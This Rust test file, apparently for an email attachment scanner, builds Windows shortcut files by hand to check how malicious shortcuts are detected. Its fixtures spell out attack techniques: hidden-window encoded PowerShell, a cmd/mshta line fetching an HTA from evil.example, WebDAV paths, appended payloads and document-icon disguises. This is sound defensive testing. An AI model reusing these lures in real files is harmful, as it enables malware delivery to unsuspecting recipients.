//! Shortcuts built byte by byte per MS-SHLLINK.

use super::*;
use crate::checks::attachments::testing::{run_check, run_check_with, with_type};
use crate::formats::lnk::{MY_COMPUTER, flag};
use crate::signatures::Signatures;

fn utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf16z(s: &str) -> Vec<u8> {
    let mut v = utf16(s);
    v.extend([0, 0]);
    v
}

/// A shortcut's parts; `build` lays them out with the right flags.
#[derive(Default, Clone)]
pub(crate) struct Lnk {
    pub id_list: Option<Vec<u8>>,
    pub local_path: Option<&'static str>,
    pub network: Option<(&'static str, &'static str)>,
    pub name: Option<&'static str>,
    pub relative_path: Option<&'static str>,
    pub working_dir: Option<&'static str>,
    pub arguments: Option<String>,
    pub icon: Option<&'static str>,
    pub icon_index: i32,
    pub env_target: Option<&'static str>,
    pub show_command: u32,
    pub ansi: bool,
    pub appended: Vec<u8>,
}

impl Lnk {
    pub fn build(&self) -> Vec<u8> {
        let mut flags = 0u32;
        let mut body = Vec::new();
        if let Some(list) = &self.id_list {
            flags |= flag::HAS_TARGET_ID_LIST;
            body.extend((list.len() as u16).to_le_bytes());
            body.extend(list);
        }
        if self.local_path.is_some() || self.network.is_some() {
            flags |= flag::HAS_LINK_INFO;
            body.extend(self.link_info());
        }
        let strings: [(u32, Option<&str>); 5] = [
            (flag::HAS_NAME, self.name),
            (flag::HAS_RELATIVE_PATH, self.relative_path),
            (flag::HAS_WORKING_DIR, self.working_dir),
            (flag::HAS_ARGUMENTS, self.arguments.as_deref()),
            (flag::HAS_ICON_LOCATION, self.icon),
        ];
        if !self.ansi {
            flags |= flag::IS_UNICODE;
        }
        for (bit, value) in strings {
            if let Some(v) = value {
                flags |= bit;
                if self.ansi {
                    let (bytes, _, _) = encoding_rs::SHIFT_JIS.encode(v);
                    body.extend((bytes.len() as u16).to_le_bytes());
                    body.extend(bytes.iter());
                } else {
                    body.extend((v.encode_utf16().count() as u16).to_le_bytes());
                    body.extend(utf16(v));
                }
            }
        }
        if let Some(t) = self.env_target {
            let mut block = 0x314u32.to_le_bytes().to_vec();
            block.extend(0xA000_0001u32.to_le_bytes());
            let mut ansi = t.as_bytes().to_vec();
            ansi.resize(260, 0);
            block.extend(ansi);
            let mut wide = utf16(t);
            wide.resize(520, 0);
            block.extend(wide);
            body.extend(block);
        }
        body.extend([0, 0, 0, 0]);
        let mut out = crate::formats::sniff::LNK_HEADER.to_vec();
        out.extend(flags.to_le_bytes());
        out.extend(0x20u32.to_le_bytes()); // FILE_ATTRIBUTE_ARCHIVE
        out.extend([0u8; 24]); // times
        out.extend(0u32.to_le_bytes()); // size
        out.extend(self.icon_index.to_le_bytes());
        out.extend(self.show_command.max(1).to_le_bytes());
        out.extend([0u8; 12]); // hot key, reserved
        assert_eq!(out.len(), 0x4C);
        out.extend(body);
        out.extend(&self.appended);
        out
    }

    fn link_info(&self) -> Vec<u8> {
        // Header 0x24 bytes (with Unicode offsets), then the strings.
        let mut tail: Vec<u8> = Vec::new();
        let header = 0x24usize;
        let mut flags = 0u32;
        let (mut volume_off, mut base_off, mut net_off) = (0, 0, 0);
        let (mut base_u_off, mut suffix_u_off) = (0, 0);
        if let Some(path) = self.local_path {
            flags |= 1;
            volume_off = header + tail.len();
            // VolumeID: size, drive type 3 (fixed), serial, label offset 0x10, empty label.
            let mut vol = 0x11u32.to_le_bytes().to_vec();
            vol.extend(3u32.to_le_bytes());
            vol.extend(0x1234_5678u32.to_le_bytes());
            vol.extend(0x10u32.to_le_bytes());
            vol.push(0);
            tail.extend(vol);
            base_off = header + tail.len();
            tail.extend(path.as_bytes());
            tail.push(0);
            base_u_off = header + tail.len();
            tail.extend(utf16z(path));
        }
        if let Some((share, _)) = self.network {
            flags |= 2;
            net_off = header + tail.len();
            let mut link = Vec::new();
            let name_at = 0x14u32;
            link.extend(0u32.to_le_bytes()); // size, patched below
            link.extend(0u32.to_le_bytes()); // flags
            link.extend(name_at.to_le_bytes());
            link.extend(0u32.to_le_bytes()); // device name offset
            link.extend(0x0002_0000u32.to_le_bytes()); // provider
            link.extend(share.as_bytes());
            link.push(0);
            let len = link.len() as u32;
            link[..4].copy_from_slice(&len.to_le_bytes());
            tail.extend(link);
        }
        let suffix = self.network.map(|(_, s)| s).unwrap_or("");
        let suffix_off = header + tail.len();
        tail.extend(suffix.as_bytes());
        tail.push(0);
        if self.local_path.is_some() {
            suffix_u_off = header + tail.len();
            tail.extend(utf16z(suffix));
        }
        let size = header + tail.len();
        let mut out = Vec::new();
        for v in [
            size,
            header,
            flags as usize,
            volume_off,
            base_off,
            net_off,
            suffix_off,
            base_u_off,
            suffix_u_off,
        ] {
            out.extend((v as u32).to_le_bytes());
        }
        out.extend(tail);
        out
    }
}

/// Shell items for `C:\dir\...\file`: My Computer, the drive, a file entry per component with
/// a version 9 extension block holding the long name.
pub(crate) fn id_list(drive: &str, components: &[&str]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut root = vec![0x1F, 0x50];
    root.extend(MY_COMPUTER);
    out.extend(((root.len() + 2) as u16).to_le_bytes());
    out.extend(root);
    let mut vol = vec![0x2F];
    vol.extend(drive.as_bytes());
    vol.resize(23, 0);
    out.extend(((vol.len() + 2) as u16).to_le_bytes());
    out.extend(vol);
    for (i, c) in components.iter().enumerate() {
        let last = i + 1 == components.len();
        let mut item = vec![if last { 0x32 } else { 0x31 }, 0];
        item.extend(0u32.to_le_bytes()); // size
        item.extend(0u32.to_le_bytes()); // date/time
        item.extend(if last { 0x20u16 } else { 0x10u16 }.to_le_bytes());
        let short: String = c.to_uppercase().chars().take(8).collect();
        item.extend(short.as_bytes());
        item.push(0);
        if item.len() % 2 == 1 {
            item.push(0);
        }
        let mut ext = Vec::new();
        ext.extend(9u16.to_le_bytes()); // version
        ext.extend(0xBEEF_0004u32.to_le_bytes());
        ext.extend([0u8; 8]); // created, accessed
        ext.extend(0x2Eu16.to_le_bytes()); // identifier
        ext.extend([0u8; 2 + 8 + 8]); // unknown, file reference, unknown
        ext.extend(0u16.to_le_bytes()); // long string size
        ext.extend([0u8; 8]); // v9 and v8 fields
        ext.extend(utf16z(c));
        ext.extend(0x14u16.to_le_bytes()); // first extension block version offset
        let size = (ext.len() + 2) as u16;
        item.extend(size.to_le_bytes());
        item.extend(ext);
        out.extend(((item.len() + 2) as u16).to_le_bytes());
        out.extend(item);
    }
    out.extend([0, 0]);
    out
}

fn rules(f: &[Finding]) -> Vec<&str> {
    f.iter().map(|f| f.rule).collect()
}

fn scan(name: &str, lnk: &Lnk) -> Vec<Finding> {
    run_check(
        check,
        vec![with_type(name, "application/octet-stream", &lnk.build())],
    )
}

fn evidence<'a>(f: &'a Finding, key: &str) -> &'a str {
    f.evidence
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
        .unwrap_or_else(|| panic!("no {key} in {f:?}"))
}

const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

#[test]
fn powershell_with_an_encoded_command_is_a_command() {
    let lnk = Lnk {
        local_path: Some(PS),
        arguments: Some(format!(
            "-w hidden -nop -enc {}",
            "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA".repeat(4)
        )),
        icon: Some("%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe"),
        icon_index: 11,
        show_command: SW_SHOWMINNOACTIVE,
        ..Lnk::default()
    };
    let f = scan("請求書.pdf.lnk", &lnk);
    assert_eq!(
        rules(&f),
        ["ATTACH_LNK_COMMAND", "ATTACH_LNK_DOCUMENT_ICON"]
    );
    assert_eq!(evidence(&f[0], "target"), PS);
    assert!(evidence(&f[0], "arguments").starts_with("-w hidden -nop -enc SQBF"));
    let why = evidence(&f[0], "why_en");
    for part in [
        "it starts powershell.exe",
        "a base64 string of 160 characters",
        "an encoded PowerShell command",
        "a hidden window",
        "in a minimised window",
    ] {
        assert!(why.contains(part), "{why}");
    }
    assert!(evidence(&f[0], "why_ja").contains("powershell.exe を起動する"));
    assert_eq!(
        evidence(&f[1], "icon"),
        "%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe,11"
    );
}

#[test]
fn a_target_id_list_alone_is_read_with_long_names() {
    let lnk = Lnk {
        id_list: Some(id_list("C:\\", &["Windows", "System32", "cmd.exe"])),
        arguments: Some("/c start /min mshta https://evil.example/a.hta".into()),
        icon: Some("C:\\Windows\\System32\\shell32.dll"),
        icon_index: 1,
        ..Lnk::default()
    };
    let parsed = parse(&lnk.build()).unwrap();
    assert_eq!(
        parsed.id_list_path.as_deref(),
        Some("C:\\Windows\\System32\\cmd.exe")
    );
    assert!(!parsed.truncated);
    let f = scan("scan.lnk", &lnk);
    assert_eq!(
        rules(&f),
        ["ATTACH_LNK_COMMAND", "ATTACH_LNK_DOCUMENT_ICON"]
    );
    let why = evidence(&f[0], "why_en");
    assert!(why.contains("cmd.exe") && why.contains("a web address") && why.contains("mshta"));
}

#[test]
fn a_program_under_a_document_icon() {
    // Not a listed program, no odd arguments: only the disguise.
    let lnk = Lnk {
        relative_path: Some(".\\data\\invoice.exe"),
        icon: Some("C:\\Users\\Public\\invoice.pdf"),
        ..Lnk::default()
    };
    let f = scan("invoice.pdf.lnk", &lnk);
    assert_eq!(rules(&f), ["ATTACH_LNK_DOCUMENT_ICON"]);
    assert_eq!(evidence(&f[0], "target"), ".\\data\\invoice.exe");
    // The program's own icon is no disguise.
    let own = Lnk {
        local_path: Some("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
        icon: Some("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
        ..Lnk::default()
    };
    assert_eq!(rules(&scan("Word.lnk", &own)), ["ATTACH_LNK_TARGET"]);
}

/// What a target runs and what an icon looks like come from `lists/program_extensions.txt` and
/// `lists/document_icon_extensions.txt`: every entry the check relied on when they were code is
/// there, and a site's lists without `.vbs` or `.pdf` judge otherwise.
#[test]
fn program_and_document_icon_extensions_come_from_the_lists() {
    let signatures = Signatures::embedded().unwrap();
    let lists = &signatures.lists;
    for ext in [
        "exe", "com", "scr", "pif", "cpl", "bat", "cmd", "vbs", "vbe", "js", "jse", "wsf", "wsh",
        "hta", "ps1", "msi", "dll",
    ] {
        assert!(lists.program_extensions.contains(ext), "{ext}");
    }
    for ext in [
        "pdf", "doc", "docx", "docm", "xls", "xlsx", "xlsm", "ppt", "pptx", "rtf", "txt", "csv",
        "jtd", "hwp", "odt", "jpg", "jpeg", "png", "gif", "bmp", "htm", "html",
    ] {
        assert!(lists.document_icon_extensions.contains(ext), "{ext}");
    }
    let script = Lnk {
        relative_path: Some(".\\data\\update.vbs"),
        icon: Some("C:\\Users\\Public\\invoice.pdf"),
        ..Lnk::default()
    };
    let file = || {
        vec![with_type(
            "a.lnk",
            "application/octet-stream",
            &script.build(),
        )]
    };
    assert_eq!(
        rules(&run_check(check, file())),
        ["ATTACH_LNK_COMMAND", "ATTACH_LNK_DOCUMENT_ICON"]
    );
    let mut no_pdf = Signatures::embedded().unwrap();
    no_pdf.lists.document_icon_extensions.remove("pdf");
    assert_eq!(
        rules(&run_check_with(check, file(), &no_pdf)),
        ["ATTACH_LNK_COMMAND"]
    );
    let mut no_vbs = Signatures::embedded().unwrap();
    no_vbs.lists.program_extensions.remove("vbs");
    // Then it only says where it goes.
    assert_eq!(
        rules(&run_check_with(check, file(), &no_vbs)),
        ["ATTACH_LNK_TARGET"]
    );
}

#[test]
fn scripts_env_targets_and_network_paths() {
    let lnk = Lnk {
        env_target: Some("%TEMP%\\update.vbs"),
        ..Lnk::default()
    };
    let f = scan("a.lnk", &lnk);
    assert_eq!(rules(&f), ["ATTACH_LNK_COMMAND"]);
    assert!(evidence(&f[0], "why_en").contains("runs the script update.vbs"));
    let webdav = Lnk {
        network: Some(("\\\\203.0.113.9@SSL\\DavWWWRoot", "share\\doc.exe")),
        ..Lnk::default()
    };
    let f = scan("b.lnk", &webdav);
    assert_eq!(rules(&f), ["ATTACH_LNK_REMOTE"]);
    assert_eq!(
        evidence(&f[0], "path"),
        "\\\\203.0.113.9@SSL\\DavWWWRoot\\share\\doc.exe"
    );
}

#[test]
fn padded_arguments_and_ansi_strings() {
    let lnk = Lnk {
        local_path: Some("C:\\Windows\\System32\\rundll32.exe"),
        arguments: Some(format!("{}..\\資料\\a.dll,Start", " ".repeat(200))),
        ansi: true,
        ..Lnk::default()
    };
    let parsed = parse(&lnk.build()).unwrap();
    assert!(parsed.arguments().ends_with("..\\資料\\a.dll,Start"));
    let f = scan("資料.lnk", &lnk);
    assert!(evidence(&f[0], "why_en").contains("200 leading blanks"));
    // Evidence is trimmed, so the command shows.
    assert_eq!(evidence(&f[0], "arguments"), "..\\資料\\a.dll,Start");
}

#[test]
fn a_payload_appended_to_the_shortcut() {
    let mut payload = vec![0u8; 2000];
    payload.extend(crate::formats::executable::tests::minimal_pe(false, 2));
    let lnk = Lnk {
        local_path: Some("C:\\Windows\\System32\\notepad.exe"),
        appended: payload,
        ..Lnk::default()
    };
    let f = scan("readme.lnk", &lnk);
    assert_eq!(rules(&f), ["ATTACH_LNK_APPENDED_DATA"]);
    assert!(evidence(&f[0], "kind").contains("at byte 2000"), "{f:?}");
}

#[test]
fn a_shortcut_to_a_document_folder_only_says_where_it_goes() {
    let lnk = Lnk {
        id_list: Some(id_list("C:\\", &["Users", "taro", "Documents", "Reports"])),
        local_path: Some("C:\\Users\\taro\\Documents\\Reports"),
        name: Some("月次報告"),
        ..Lnk::default()
    };
    let f = scan("Reports.lnk", &lnk);
    assert_eq!(rules(&f), ["ATTACH_LNK_TARGET"]);
    assert_eq!(
        evidence(&f[0], "target"),
        "C:\\Users\\taro\\Documents\\Reports"
    );
    assert_eq!(evidence(&f[0], "arguments"), "-");
    // A shortcut to a document on a file server is not remote by its icon or a script.
    let doc = Lnk {
        local_path: Some("C:\\Users\\taro\\Documents\\見積書.docx"),
        icon: Some("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
        ..Lnk::default()
    };
    assert_eq!(rules(&scan("見積書.lnk", &doc)), ["ATTACH_LNK_TARGET"]);
}

#[test]
fn shortcuts_are_found_by_content_and_other_files_ignored() {
    let lnk = Lnk {
        local_path: Some("C:\\Windows\\System32\\mshta.exe"),
        ..Lnk::default()
    };
    // Named as a PDF: still a shortcut.
    assert_eq!(rules(&scan("report.pdf", &lnk)), ["ATTACH_LNK_COMMAND"]);
    assert!(run_check(check, vec![with_type("a.lnk", "", b"not a shortcut")]).is_empty());
}

#[test]
fn damaged_shortcuts_never_panic() {
    let samples = [
        Lnk {
            id_list: Some(id_list("C:\\", &["Windows", "System32", "cmd.exe"])),
            local_path: Some(PS),
            network: Some(("\\\\srv\\share", "x.exe")),
            arguments: Some("/c echo".into()),
            icon: Some("shell32.dll"),
            env_target: Some("%windir%\\x.exe"),
            ..Lnk::default()
        }
        .build(),
        Lnk {
            ansi: true,
            local_path: Some("C:\\a.exe"),
            name: Some("名前"),
            appended: vec![1; 3000],
            ..Lnk::default()
        }
        .build(),
    ];
    let mut seed: u64 = 0x2545_F491_4F6C_DD1D;
    let mut rand = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let sigs = Signatures::embedded().unwrap();
    for sample in &samples {
        for cut in 0..sample.len() {
            let _ = parse(&sample[..cut]);
        }
        for _ in 0..2000 {
            let mut d = sample.clone();
            for _ in 0..1 + rand() % 6 {
                let at = 20 + (rand() as usize) % (d.len() - 20);
                d[at] = rand() as u8;
            }
            let _ = run_check_with(check, vec![with_type("m.lnk", "", &d)], &sigs);
        }
    }
}
